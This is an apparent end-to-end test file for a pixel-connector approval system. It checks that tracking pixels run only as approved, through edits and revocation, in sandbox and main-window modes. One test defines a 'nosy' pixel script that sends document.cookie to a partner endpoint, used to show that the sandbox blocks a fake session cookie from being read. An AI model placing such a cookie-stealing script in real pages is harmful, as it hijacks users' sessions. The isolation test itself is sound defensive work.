/** What was reviewed is what runs: pixels before, between and after approvals, in both modes, as partner and API tell it. */
import type { Admin } from '../../demo-site/adminClient.ts';
import type { Partner } from '../../demo-site/partner/partner.ts';
import { connector, imagePixel } from '../support/stack/connectorSettings.ts';
import { approve, legs, showConnector, trackToTheEnd } from '../support/stack/observe.ts';
import { expect, type ShownEvent, test } from '../support/stack/stack.ts';

test.use({ demo: false });

const paths = (partner: Partner) =>
  partner
    .hits('/pixel')
    .map((hit) => hit.path)
    .sort();

const receipts = (event: ShownEvent) =>
  event.receipts.map((receipt) => `${receipt.connector} ${receipt.outcome}`).sort();

/** Status of a refused call. */
const refusal = (admin: Admin, path: '/api/connectors/reviewed/pixel/approve', body: { hash: string }) =>
  admin.call('POST', path, body).then(
    () => 'accepted',
    (error: { status: number }) => error.status,
  );

for (const sandbox of [true, false]) {
  test(`a pixel runs in the ${sandbox ? 'sandbox' : 'main window'} as it was approved: not before, not as edited, not once revoked`, async ({
    page,
    stack: { shop, partner, admin, install },
  }) => {
    const reviewed = (text: string) =>
      connector('reviewed', {
        triggers: ['Lead'],
        pixel: imagePixel(`${partner.url}/pixel/${text}`, { id: '{{EVENT_ID}}' }, { sandbox }),
      });
    // runs all the time: shows that pixels of the event did run
    const other = connector('other', {
      triggers: ['Lead'],
      pixel: imagePixel(`${partner.url}/pixel/other`, { id: '{{EVENT_ID}}' }, { sandbox }),
    });
    await install([reviewed('first'), other], { approve: false });
    await approve(admin, 'other');
    await page.goto(shop.url);
    const lead = (options = {}) => {
      partner.clearHits();
      return trackToTheEnd(page, admin, 'Lead', {}, options);
    };

    await test.step('unapproved', async () => {
      expect(await showConnector(admin, 'reviewed')).toMatchObject({ pixel: { status: 'pending', live: null } });
      const event = await lead();
      expect(legs(event, 'reviewed')).toBe('webhook skipped: leg_off, pixel skipped: pixel_not_approved');
      expect(receipts(event)).toEqual(['other ran']);
      await expect.poll(() => paths(partner)).toEqual(['/pixel/other']);
    });

    await test.step('approved', async () => {
      expect(await approve(admin, 'reviewed')).toMatchObject({
        pixel: { status: 'approved', approvedBy: expect.stringMatching(/./) },
      });
      const event = await lead({ eventId: 'lead-approved' });
      expect(legs(event, 'reviewed')).toBe('webhook skipped: leg_off, pixel delivered');
      expect(receipts(event)).toEqual(['other ran', 'reviewed ran']);
      await expect.poll(() => paths(partner)).toEqual(['/pixel/first', '/pixel/other']);
    });

    const { pixel: first } = await showConnector(admin, 'reviewed');
    await test.step('edited: what was approved goes on', async () => {
      await admin.call('PUT', '/api/connectors/reviewed', reviewed('second'));
      expect(await showConnector(admin, 'reviewed')).toMatchObject({
        version: 2,
        pixel: { status: 'pending', live: { hash: first.hash } },
      });
      const event = await lead();
      expect(legs(event, 'reviewed')).toBe('webhook skipped: leg_off, pixel delivered');
      await expect.poll(() => paths(partner)).toEqual(['/pixel/first', '/pixel/other']);
    });

    await test.step('the edit approved', async () => {
      expect(await refusal(admin, '/api/connectors/reviewed/pixel/approve', { hash: first.hash ?? '' })).toBe(409);
      await approve(admin, 'reviewed');
      const event = await lead();
      expect(receipts(event)).toEqual(['other ran', 'reviewed ran']);
      await expect.poll(() => paths(partner)).toEqual(['/pixel/other', '/pixel/second']);
    });

    await test.step('revoked', async () => {
      await admin.call('POST', '/api/connectors/reviewed/pixel/revoke', {});
      expect(await showConnector(admin, 'reviewed')).toMatchObject({ pixel: { status: 'revoked', live: null } });
      const event = await lead();
      expect(legs(event, 'reviewed')).toBe('webhook skipped: leg_off, pixel skipped: pixel_revoked');
      expect(receipts(event)).toEqual(['other ran']);
      await expect.poll(() => paths(partner)).toEqual(['/pixel/other']);
    });

    await test.step('nor does an event run it that had it when it was on air', async () => {
      await lead({ eventId: 'lead-approved' });
      await lead();
      expect(paths(partner).filter((path) => path !== '/pixel/other')).toEqual([]);
    });
  });
}

test('a pixel approved for the sandbox stays in it when its connector is moved to the main window', async ({
  page,
  stack: { shop, partner, admin, install },
}) => {
  const nosy = (sandbox: boolean) =>
    connector('nosy', {
      triggers: ['Lead'],
      pixel: {
        enabled: true,
        sandbox,
        html: `<script>new Image().src = "${partner.url}/pixel/nosy?saw=" + encodeURIComponent(document.cookie);</script>`,
      },
    });
  await install([nosy(true)]);
  await page.goto(shop.url);
  await page.evaluate(() => {
    // biome-ignore lint/suspicious/noDocumentCookie: what a pixel must not read is there as pages put it there
    document.cookie = 'session=secret';
  });
  const seen = async () => {
    partner.clearHits();
    await trackToTheEnd(page, admin, 'Lead');
    await expect.poll(() => partner.hits('/pixel/nosy').length).toBe(1);
    return decodeURIComponent(partner.hits('/pixel/nosy')[0]?.query[0]?.[1] ?? '');
  };
  expect(await seen()).toBe('');

  await admin.call('PUT', '/api/connectors/nosy', nosy(false));
  expect(await showConnector(admin, 'nosy')).toMatchObject({ pixel: { status: 'pending' } });
  expect(await seen()).toBe('');

  await approve(admin, 'nosy');
  expect(await seen()).toContain('session=secret');
});
